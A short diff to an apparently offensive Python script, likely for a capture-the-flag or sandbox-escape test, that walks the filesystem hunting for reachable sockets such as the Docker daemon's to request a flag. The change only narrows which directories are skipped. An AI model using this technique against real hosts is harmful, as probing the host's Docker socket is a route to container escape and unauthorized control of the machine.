@@ -180,9 +180,9 @@ def ask(attack: Attack, where: str, talk: socket.socket) -> None:
 
 def sockets(attack: Attack) -> None:
     """docker socket: a daemon of the host's does what it is asked for. Every socket that can be reached is asked for the flag."""
-    for folder, _, names in os.walk("/"):
-        if folder.startswith(("/proc", "/sys")):
-            continue
+    for folder, below, names in os.walk("/"):
+        # Where nothing runs, nothing listens.
+        below[:] = [name for name in below if os.path.join(folder, name) not in ("/proc", "/sys", "/usr", "/python")]
         for name in names:
             path = os.path.join(folder, name)
             try:
